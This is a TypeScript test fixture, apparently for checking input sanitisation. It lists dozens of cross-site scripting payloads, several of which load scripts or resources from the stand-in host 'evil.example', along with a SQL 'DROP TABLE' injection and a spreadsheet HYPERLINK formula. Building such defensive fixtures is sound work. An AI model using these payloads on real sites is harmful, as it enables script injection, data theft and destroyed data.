/** A domain that nothing of ours may ever ask. */
export const FOREIGN_HOST = "evil.example";

const RUN = "window.__xss=1";

/**
 * What people write who want a browser to run it: in markup, in attributes, in addresses, in templates, in encodings that
 * could be decoded once too often, and in characters that readers and parsers see differently. If one of them takes effect,
 * it sets `window.__xss`, opens a dialog, or calls FOREIGN_HOST.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=//${FOREIGN_HOST}/x.js></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//${FOREIGN_HOST}/pixel.gif>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `"><svg onload=${RUN}>`,
  `' onmouseover=${RUN} '`,
  `" autofocus onfocus=${RUN} x="`,
  `\` onclick=${RUN} \``,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><img src onerror=${RUN}>`,
  `"]);${RUN}//`,
  "<!--",
  "--><b>",
  "]]>",
  "<![CDATA[<b>]]>",
  `<iframe src=javascript:parent.__xss=1>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<object data=//${FOREIGN_HOST}></object>`,
  `<embed src=//${FOREIGN_HOST}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:alert(1)//${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//${FOREIGN_HOST}/page`,
  `https://user:pass@${FOREIGN_HOST}@shop.example`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `$${`{${RUN}}`}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;img src onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}`,
  `\\u003cscript\\u003e${RUN}`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${RUN}`,
  `[x](javascript:${RUN})`,
  `<form action=//${FOREIGN_HOST}><button>Go</button>`,
  `<base href=//${FOREIGN_HOST}>`,
  `<meta http-equiv=refresh content=0;//${FOREIGN_HOST}>`,
  `<link rel=stylesheet href=//${FOREIGN_HOST}>`,
  `<style>@import "//${FOREIGN_HOST}";</style>`,
  `<b style="background:url(//${FOREIGN_HOST})">x</b>`,
  "__proto__",
  "constructor",
  "$&$1$$",
  "null",
  "Robert'); DROP TABLE visitors;--",
  `=HYPERLINK("//${FOREIGN_HOST}")`,
  "\u0627\u0644\u0633\u0644\u0627\u0645 <b>",
];

/** What only a text of several lines may hold. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HOSTILE_STRINGS,
  `java\nscript:${RUN}`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<img src=x\nonerror\n=${RUN}>`,
  `a\u2028${RUN}\u2029b`,
  `\u202e<script>${RUN}</script>`,
  `\u001b]8;;//${FOREIGN_HOST}\u0007x\u001b]8;;\u0007`,
  "<b>".repeat(1333),
];

/** The strings that fit into a field of so many characters. */
export const upTo = (max: number, strings = HOSTILE_STRINGS): string[] =>
  strings.filter((text) => [...text].length <= max);

/** One of so many, for what takes a browser long. */
export const everyNth = (nth: number, strings = HOSTILE_STRINGS): string[] => strings.filter((_, at) => at % nth === 0);
